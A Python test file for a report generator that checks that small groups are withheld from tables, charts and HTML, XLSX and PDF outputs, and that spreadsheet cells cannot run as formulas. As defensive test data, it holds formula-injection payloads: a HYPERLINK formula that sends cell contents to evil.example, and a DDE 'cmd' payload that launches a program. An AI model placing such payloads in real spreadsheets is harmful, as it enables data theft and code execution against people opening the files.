"""Small groups are never shown as numbers, and spreadsheet cells never run as formulas."""

from __future__ import annotations

from datetime import UTC, date, datetime

import openpyxl
import typer
from typer.testing import CliRunner

from upstream.cli.report import report
from upstream.frameworks import load_codebook
from upstream.policy import FEWER_THAN, Quote, safe_text, shown_count
from upstream.records.drafts import ItemDraft
from upstream.reports import render_html, render_pdf, render_xlsx
from upstream.reports.counts import MatrixRow
from upstream.reports.model import QuoteGroup, ReportData
from upstream.reports.tables import report_tables
from upstream.store import Store
from upstream.workflows.coding import code_workspace
from upstream.workflows.network.library import extract_text
from upstream.workflows.reports import build_report_data, gather

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'


def _store_with_small_groups(path) -> Store:
    """Northmoor has 20 items, Eastfield 12, Tiny Trust 4; wards of 11, 20 and 5 items.

    Tiny Trust and Lowfield are small; Eastfield and Riverside are the next smallest,
    hidden so that the small ones cannot be worked out from the totals.
    """
    store = Store(path)
    with store.writer("Network") as writer:
        source = writer.add_source("notes.csv", kind="visit notes")
        drafts = [
            ItemDraft(
                text=f"Procurement rules and contracts slowed pilot {n} down; we moved to grants.",
                line=n + 2,
                organisation="Northmoor" if n < 20 else "Eastfield" if n < 32 else "Tiny Trust",
                item_date=date(2025, 1 + n % 3, 1),
                attributes={"ward": "Riverside" if n < 11 else "Hilltop" if n < 31 else "Lowfield"},
            )
            for n in range(36)
        ]
        writer.insert_items(source, drafts)
    code_workspace(store, "Network", load_codebook("nom"), embedder="hashing", threshold=0.01)
    return store


def test_small_organisations_and_segments_are_suppressed(tmp_path) -> None:
    with _store_with_small_groups(tmp_path / "s.db") as store:
        data = build_report_data(store, "Network")
        evidence = gather(store, "Network")
        wards = evidence.segments("ward")
    sizes = {row.name: row for row in data.by_organisation}
    assert not sizes["Northmoor"].suppressed and sizes["Tiny Trust"].suppressed
    assert data.matrix is not None
    tiny = next(r for r in data.matrix.rows if r.name == "Tiny Trust")
    assert tiny.suppressed and tiny.counts == [] and tiny.share(0) is None
    assert wards is not None
    # Lowfield (5) is counted, not named: a value can name a person. Riverside (11)
    # is named but not shown, or Lowfield would be the total less the others.
    assert "Lowfield" not in {r.name for r in wards.rows} and wards.small_groups == 1
    riverside = next(r for r in wards.rows if r.name == "Riverside")
    hilltop = next(r for r in wards.rows if r.name == "Hilltop")
    assert riverside.suppressed and riverside.shown == "not shown"
    assert not hilltop.suppressed and hilltop.items == 20
    tables = {t.key: t for t in report_tables(data)}
    assert ["Tiny Trust", FEWER_THAN] in tables["organisations"].rows
    row = next(r for r in tables["organisations_by_element"].rows if r[0] == "Tiny Trust")
    assert row[1] == FEWER_THAN and all(cell is None for cell in row[2:])
    assert any("fewer than 10" in c and "2 groups" in c for c in data.caveats)


def test_an_element_with_fewer_than_10_items_is_withheld_in_every_format(tmp_path) -> None:
    from dataclasses import replace

    from upstream.reports.charts import heatmap_figure
    from upstream.reports.counts import Matrix
    from upstream.reports.html import render_html_text

    with _store_with_small_groups(tmp_path / "s.db") as store:
        data = build_report_data(store, "Network")
    # Northmoor's 40 coded items: 25 touch the first element, 3 the second, none the third.
    northmoor = MatrixRow("Northmoor", 40, 40, [25, 3, 0])
    matrix = Matrix("Organisation", ["a", "b", "c"], ["Alpha", "Beta", "Gamma"], [northmoor])
    data = replace(data, matrix=matrix)
    assert [northmoor.cell(n) for n in range(3)] == ["25", FEWER_THAN, "0"]
    assert northmoor.share(1) is None and northmoor.share(0) == 25 / 40
    table = next(t for t in report_tables(data) if t.key == "organisations_by_element")
    assert table.rows[0][3:] == [25, 25 / 40, FEWER_THAN, None, 0, 0.0]
    figure = heatmap_figure(matrix)["data"][0]
    assert figure["text"] == [["25", "–", "0"]] and figure["z"] == [[62, None, 0]]
    html = render_html_text(data)
    rows = [part.split("</tr>")[0] for part in html.split('<th scope="row">Northmoor</th>')[1:]]
    row_html = next(row for row in rows if ">25 (" in row)  # the organisations-by-element row
    assert row_html.count('class="num withheld"') == 1
    assert f'<td class="num withheld">{FEWER_THAN}</td>' in row_html
    assert ">3 (" not in html


def test_no_small_group_can_be_worked_out_by_subtraction(tmp_path) -> None:
    with _store_with_small_groups(tmp_path / "s.db") as store:
        data = build_report_data(store, "Network")
        wards = gather(store, "Network").segments("ward")
    tables = {t.key: t for t in report_tables(data)}
    organisations = dict(tuple(row) for row in tables["organisations"].rows)
    # 36 items in all: with Northmoor's 20 shown, Eastfield and Tiny Trust share 16.
    assert organisations == {"Northmoor": 20, "Eastfield": "not shown", "Tiny Trust": FEWER_THAN}
    by_element = {row[0]: row for row in tables["organisations_by_element"].rows}
    assert by_element["Eastfield"][1] == "not shown"
    assert all(cell is None for cell in by_element["Eastfield"][2:])
    assert wards is not None
    rows = {r.name: r for r in wards.rows}
    assert "Lowfield" not in rows and wards.small_groups == 1  # counted, not named
    assert rows["Riverside"].suppressed and rows["Riverside"].shown == "not shown"
    assert rows["Riverside"].counts == [] and not rows["Hilltop"].suppressed


def test_a_small_organisation_s_own_report_shows_nothing_of_it(tmp_path) -> None:
    with _store_with_small_groups(tmp_path / "s.db") as store:
        data = build_report_data(store, "Network", org="Tiny Trust")
    assert data.quotes == [] and data.coverage == [] and data.matrix is None
    assert data.patterns == [] and data.themes == [] and data.items_shown == FEWER_THAN
    html = render_html(data, tmp_path / "r.html").read_text(encoding="utf-8")
    assert "4 items" not in html and ">4<" not in html
    assert "pilot 3" not in html and "Procurement rules" not in html
    assert "fewer than 10 items of evidence" in html
    assert "Groups of fewer than 10 are not shown" in html
    book = openpyxl.load_workbook(render_xlsx(data, tmp_path / "r.xlsx"))
    cells = [c.value for sheet in book for r in sheet.iter_rows() for c in r]
    assert 4 not in cells and not any("Procurement rules" in str(c) for c in cells)
    pdf = extract_text("r.pdf", render_pdf(data, tmp_path / "r.pdf").read_bytes())
    assert "fewer than 10 items of evidence" in pdf
    assert "4 items" not in pdf and "Procurement rules" not in pdf


def test_suppressed_numbers_never_reach_the_files(tmp_path) -> None:
    with _store_with_small_groups(tmp_path / "s.db") as store:
        data = build_report_data(store, "Network")
    html = render_html(data, tmp_path / "r.html").read_text(encoding="utf-8")
    row = html[html.index('<th scope="row">Tiny Trust</th>') :][:400]
    assert FEWER_THAN in row and ">4<" not in row
    book = openpyxl.load_workbook(render_xlsx(data, tmp_path / "r.xlsx"))
    values = [[c.value for c in r] for r in book["organisations"].iter_rows()]
    assert ["Tiny Trust", FEWER_THAN] in values


def test_group_size_wording() -> None:
    assert shown_count(0) == "0" and shown_count(9) == FEWER_THAN and shown_count(10) == "10"
    assert shown_count(12345) == "12,345"


def _hostile_report() -> ReportData:
    quote = Quote(HYPERLINK, "=cmd|' /C calc'!A0", "+Chief Executive", None, 0.9, "machine", 1)
    return ReportData(
        title="@SUM(1+1)",
        workspace="-2+3",
        organisation=None,
        generated_at=datetime(2025, 6, 1, tzinfo=UTC),
        items=20,
        organisations=1,
        sources=1,
        first_date=None,
        last_date=None,
        headlines=[HYPERLINK],
        by_organisation=[MatrixRow("=cmd|' /C calc'!A0", 20, 0, [])],
        coverage=[],
        top_codes=[],
        patterns=[],
        matrix=None,
        trend=None,
        quotes=[QuoteGroup("x", "=1+1", 1, [quote])],
        themes=[],
        method=None,
        caveats=["\t=1+2"],
    )


def test_formulas_are_inert_in_the_workbook(tmp_path) -> None:
    path = render_xlsx(_hostile_report(), tmp_path / "hostile.xlsx")
    book = openpyxl.load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert texts and all(c.data_type == "s" for c in texts)
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [c.value for c in texts if c.value.startswith(starts)]
    quote = next(c.value for c in texts if "HYPERLINK" in c.value)
    assert quote == "'" + HYPERLINK
    assert safe_text("=1") == "'=1" and safe_text("plain") == "plain"


def test_the_command_line_report_on_a_small_organisation_shows_nothing_of_it(tmp_path) -> None:
    db = tmp_path / "s.db"
    _store_with_small_groups(db).close()
    app = typer.Typer(add_completion=False)
    app.command("report")(report)
    app.command("other")(lambda: None)
    out = tmp_path / "tiny.html"
    done = CliRunner().invoke(
        app, ["report", "--db", str(db), "--output", str(out), "--org", "Tiny Trust"]
    )
    assert done.exit_code == 0, done.output
    assert "fewer than 10 items" in done.output and "4 items" not in done.output
    html = out.read_text(encoding="utf-8")
    assert "Procurement rules" not in html and "fewer than 10 items of evidence" in html


def test_private_words_are_quoted_only_in_their_own_organisations_report(tmp_path) -> None:
    secret = "Our private pilot of grants instead of procurement contracts was kept quiet"
    with Store(tmp_path / "s.db") as store:
        with store.writer("Network") as writer:
            source = writer.add_source("notes.csv", kind="visit notes")
            shared = [
                ItemDraft(
                    text=f"Procurement rules and contracts slowed pilot {n} down.",
                    line=n + 2,
                    organisation="Northmoor" if n % 2 else "Eastfield",
                )
                for n in range(24)
            ]
            writer.insert_items(source, shared)
            mine = [
                ItemDraft(text=f"{secret} ({n}).", line=100 + n, organisation="Eastfield")
                for n in range(12)
            ]
            writer.insert_items(source, mine, shared=False)
        code_workspace(store, "Network", load_codebook("nom"), embedder="hashing", threshold=0.01)
        network = build_report_data(store, "Network")
        northmoor = build_report_data(store, "Network", org="Northmoor")
        eastfield = build_report_data(store, "Network", org="Eastfield")

    def quoted(data: ReportData) -> list[str]:
        return [q.text for group in data.quotes for q in group.quotes]

    assert quoted(network) and quoted(eastfield)
    # The owner's network report counts Eastfield's private items but never quotes them.
    assert network.items == 36
    assert not [t for t in quoted(network) if secret in t]
    assert not [t for t in quoted(northmoor) if secret in t]
    assert [t for t in quoted(eastfield) if secret in t]


def test_a_small_coded_count_is_withheld_so_a_hidden_cell_cannot_be_worked_out() -> None:
    from upstream.reports.counts import Matrix
    from upstream.reports.tables import matrix_table

    # 17 items, 2 coded, all of them Infrastructure: showing "2 coded" beside zeros
    # would give away the withheld Infrastructure cell.
    small = MatrixRow("Place and Environment", 17, 2, [2, 0, 0])
    large = MatrixRow("Resources", 40, 25, [12, 9, 0])
    assert small.coded_shown == FEWER_THAN and small.cell(0) == FEWER_THAN
    assert large.coded_shown == "25"
    table = matrix_table(Matrix("Directorate", ["a", "b", "c"], ["A", "B", "C"], [small, large]))
    rows = {row[0]: row for row in table.rows}
    assert rows["Place and Environment"][2] == FEWER_THAN
    assert rows["Resources"][2] == 25


def test_a_code_with_fewer_than_10_items_is_withheld_wherever_it_is_counted(tmp_path) -> None:
    from upstream.reports.charts import coverage_figure
    from upstream.reports.html import render_html_text

    with _store_with_small_groups(tmp_path / "s.db") as store:
        data = build_report_data(store, "Network")
    small = [r for r in data.coverage if 0 < r.items < 10]
    large = [r for r in data.coverage if r.items >= 10]
    assert small and large, "the fixture codes some elements often and some rarely"
    table = next(t for t in report_tables(data) if t.key == "coverage")
    cells = {row[1]: row for row in table.rows}
    for row in small:
        assert cells[row.title][3] == FEWER_THAN and cells[row.title][4] is None
    for row in large:
        assert cells[row.title][3] == row.items
    bars = coverage_figure(data.coverage)["data"][0]
    for row in small:
        if row.depth == 0:
            at = bars["y"].index(f"{row.title} ({FEWER_THAN})")
            # No bar at all: its length would give the count away, and 0 would read as none.
            assert bars["x"][at] is None
            assert str(row.items) not in bars["hovertext"][at].replace(FEWER_THAN, "")
    html = render_html_text(data)
    for group in data.quotes:
        if group.items < 10:
            assert f'{group.title} <span class="tag">{FEWER_THAN} items</span>' in html


def test_a_post_one_person_holds_is_quoted_as_a_band(tmp_path) -> None:
    from upstream.reports.evidence import public_role

    assert public_role("Chief Executive") == "Senior leader"
    assert public_role("Director of Public Health") == "Senior leader"
    assert public_role("Procurement lead") == "Lead officer"
    assert public_role("Social worker") == "Social worker"
    with Store(tmp_path / "s.db") as store:
        with store.writer("Network") as writer:
            source = writer.add_source("notes.csv", kind="visit notes")
            drafts = [
                ItemDraft(
                    text=f"Procurement rules and contracts slowed pilot {n} down.",
                    line=n + 2,
                    organisation="Northmoor",
                    author_role="Chief Executive" if n == 0 else "Social worker",
                )
                for n in range(12)
            ]
            writer.insert_items(source, drafts)
        code_workspace(store, "Network", load_codebook("nom"), embedder="hashing", threshold=0.01)
        data = build_report_data(store, "Network")
    roles = {q.role for group in data.quotes for q in group.quotes}
    assert roles and "Chief Executive" not in roles


def test_a_theme_named_from_private_words_is_not_named_so_in_the_network_report(tmp_path) -> None:
    from upstream.records.themes import Theme
    from upstream.store.theme_repository import ThemeStore
    from upstream.workflows.report_themes import PRIVATE_NAME

    with Store(tmp_path / "s.db") as store:
        with store.writer("Network") as writer:
            source = writer.add_source("notes.csv", kind="visit notes")
            writer.insert_items(
                source,
                [
                    ItemDraft(
                        text="Quietly merging depots saves money.", line=2, organisation="East"
                    )
                ],
                shared=False,
            )
            writer.insert_items(
                source,
                [ItemDraft(text="The bus depot is noisy.", line=3, organisation="North")],
            )
            # Enough more of East's own items for East's report to be shown at all.
            more = [
                ItemDraft(text=f"Note {n}.", line=4 + n, organisation="East") for n in range(10)
            ]
            writer.insert_items(source, more, shared=False)
        workspace = store.workspace("Network")
        ids = [i.id for i in workspace.items() if "depot" in i.text]
        theme = Theme(
            id=0,
            label="Quietly merging depots",
            keywords=("merging", "depots"),
            size=2,
            respondents=2,
            organisations=("East", "North"),
            engagement_size=None,
            quotes=(),
            members=(0, 1),
        )
        ThemeStore(workspace).save_run(
            [theme], ids, parameters={}, versions={}, seed=0, summary={"items": 2, "themes": 1}
        )
        network = build_report_data(store, "Network")
        east = build_report_data(store, "Network", org="East")
    assert [t.label for t in network.themes] == [PRIVATE_NAME]
    assert network.themes[0].size == 2  # still counted
    assert [t.label for t in east.themes] == ["Quietly merging depots"]
    # The network report says why the name is missing and where to find it, and its
    # headline does not offer the placeholder as a theme people raised.
    assert "the report about that organisation shows them" in network.themes_withheld
    assert not east.themes_withheld
    assert not any(PRIVATE_NAME in h for h in network.headlines)
    assert any("each organisation's own report gives them" in h for h in network.headlines)
    from upstream.reports.html import render_html_text

    said = " ".join(render_html_text(network).split())
    assert "the report about that organisation shows them" in said


def test_a_column_s_hidden_counts_never_add_up_to_fewer_than_10() -> None:
    from upstream.reports.analysis import _cover_columns
    from upstream.reports.counts import MatrixRow

    # Outcomes: 13 for one organisation, 1 each for three others; the total (16) is
    # shown as the framework's coverage, so 16 - 13 = 3 would give the three 1s away.
    rows = [
        MatrixRow("Larkwell", 40, 30, [13, 20]),
        MatrixRow("Brackenshire", 30, 20, [1, 12]),
        MatrixRow("Mardenholt", 25, 15, [1, 11]),
        MatrixRow("Orrinsford", 25, 15, [1, 10]),
    ]
    covered = _cover_columns(rows, [], 2)
    assert [r.cell(0) for r in covered] == ["not shown", FEWER_THAN, FEWER_THAN, FEWER_THAN]
    assert covered[0].withheld(0) and covered[0].share(0) is None
    # The second column hides nothing, so nothing more is withheld in it.
    assert [r.cell(1) for r in covered] == ["20", "12", "11", "10"]
    # Hidden groups' counts (a suppressed row, or one not listed) count as hidden.
    rows = [MatrixRow("A", 40, 30, [13]), MatrixRow("B", 30, 20, [12])]
    assert [r.cell(0) for r in _cover_columns(rows, [[4]], 1)] == ["13", "not shown"]
    assert [r.cell(0) for r in _cover_columns(rows, [[12]], 1)] == ["13", "12"]


def test_a_quote_names_a_role_only_when_10_of_its_organisation_s_items_share_it() -> None:
    """One police inspector beside the council's name names a person; ten data analysts do not."""
    from upstream.records.stored import ItemRecord
    from upstream.reports.evidence import attribution_role, named_roles

    def item(n: int, role: str, org: str = "Hollinsby Council") -> ItemRecord:
        return ItemRecord(
            id=n,
            text=f"note {n}",
            source_id=1,
            organisation=org,
            external_id=None,
            line=n,
            author_role=role,
            item_date=None,
        )

    items = [item(n, "Data analyst") for n in range(10)]
    items += [item(10, "Police inspector"), item(11, "Chief Executive")]
    items += [item(12 + n, "Director of Adult Services") for n in range(9)]
    roles = named_roles(items)
    kinds = {1: "visit notes"}
    assert attribution_role(items[0], kinds, roles) == "Data analyst"
    assert attribution_role(items[10], kinds, roles) == "Visit notes"
    # Ten senior leaders between them (a chief executive and nine directors) form a band.
    assert attribution_role(items[11], kinds, roles) == "Senior leader"
    # The same role at another organisation with one such item is not named either.
    other = item(30, "Data analyst", org="Weyhaven Council")
    assert attribution_role(other, kinds, named_roles([*items, other])) == "Visit notes"
    assert attribution_role(items[10], kinds) == "Police inspector"  # no rule asked for


def test_how_many_people_checked_is_a_small_group_too() -> None:
    from upstream.reports.counts import CodeCount

    row = CodeCount("infrastructure", "Infrastructure", 0, 51, 12, 0.35, checked=6)
    # 51 items is shown; the 6 of them people coded or checked read as any small group does.
    assert row.shown == "51" and row.checked_shown == FEWER_THAN
    assert CodeCount("a", "A", 0, 51, 12, 0.35, checked=12).checked_shown == "12"


def test_a_report_gives_each_theme_s_likes_and_names_the_most_liked(tmp_path) -> None:
    from upstream.records.themes import Theme
    from upstream.store.theme_repository import ThemeStore

    with Store(tmp_path / "s.db") as store:
        with store.writer("Town") as writer:
            source = writer.add_source("replies.csv", kind="consultation replies")
            drafts = [
                ItemDraft(text=f"{subject} reply {n}", line=n + 2, organisation="Town",
                          engagement={"likes": likes})
                for n, (subject, likes) in enumerate(
                    [("Parking", 100)] * 12 + [("Buses", 2)] * 15
                )
            ]  # fmt: skip
            writer.insert_items(source, drafts, shared=True)
        workspace = store.workspace("Town")
        ids = [i.id for i in workspace.items()]
        themes = [
            Theme(id=n, label=label, keywords=(), size=len(members), respondents=len(members),
                  organisations=("Town",), engagement_size=None, quotes=(), members=members)
            for n, (label, members) in enumerate(
                [("Parking", tuple(range(12))), ("Buses", tuple(range(12, 27)))]
            )
        ]  # fmt: skip
        ThemeStore(workspace).save_run(
            themes, ids, parameters={}, versions={}, seed=0, summary={"items": 27, "themes": 2}
        )
        data = build_report_data(store, "Town")
    reactions = {t.label: t.reactions for t in data.themes}
    assert reactions == {"Parking": 1200, "Buses": 30}
    assert any(
        "most likes and other reactions are \u201cParking\u201d (1,200) and \u201cBuses\u201d (30)"
        in h
        for h in data.headlines
    )
    table = next(t for t in report_tables(data) if t.key == "themes")
    assert table.columns[3] == "Likes and other reactions"
    assert [row[3] for row in table.rows] == [30, 1200]  # largest theme first
    # Each theme carries the number the web app shows it by.
    assert table.columns[0] == "Number" and [row[0] for row in table.rows] == [2, 1]
    assert data.themes_run.startswith("They are the themes of run ")
    assert "with the numbers the web app shows them by" in data.themes_run


def test_an_organisation_s_report_keeps_a_theme_name_other_organisations_shared(tmp_path) -> None:
    from upstream.records.themes import Theme
    from upstream.store.theme_repository import ThemeStore
    from upstream.workflows.report_themes import PRIVATE_NAME

    with Store(tmp_path / "s.db") as store:
        with store.writer("Network") as writer:
            source = writer.add_source("notes.csv", kind="visit notes")
            shared = [
                ItemDraft(
                    text=f"The bus depot is noisy, day {n}.", line=2 + n, organisation="North"
                )
                for n in range(10)
            ]
            writer.insert_items(source, shared)
            own = [
                ItemDraft(
                    text=f"Quietly merging depots, note {n}.", line=20 + n, organisation="East"
                )
                for n in range(10)
            ]
            writer.insert_items(source, own, shared=False)
        workspace = store.workspace("Network")
        ids = [i.id for i in workspace.items()]

        def theme(number: int, label: str, members: range) -> Theme:
            return Theme(
                id=number, label=label, keywords=tuple(label.lower().split()),
                size=len(members), respondents=len(members), organisations=("East", "North"),
                engagement_size=None, quotes=(), members=tuple(members),
            )  # fmt: skip

        # One theme named from North's shared words, holding one of East's notes; one
        # named from East's own words, holding one of North's.
        found = [
            theme(0, "Bus depot is noisy", range(11)),
            theme(1, "Quietly merging", range(9, 20)),
        ]
        ThemeStore(workspace).save_run(
            found, ids, parameters={}, versions={}, seed=0, summary={"items": 20, "themes": 2}
        )
        east = build_report_data(store, "Network", org="East")
        north = build_report_data(store, "Network", org="North")
    # East's report names both: one from what North shared, one from its own words.
    assert sorted(t.label for t in east.themes) == ["Bus depot is noisy", "Quietly merging"]
    # North's report never shows East's private words, even as a name.
    assert sorted(t.label for t in north.themes) == sorted(["Bus depot is noisy", PRIVATE_NAME])
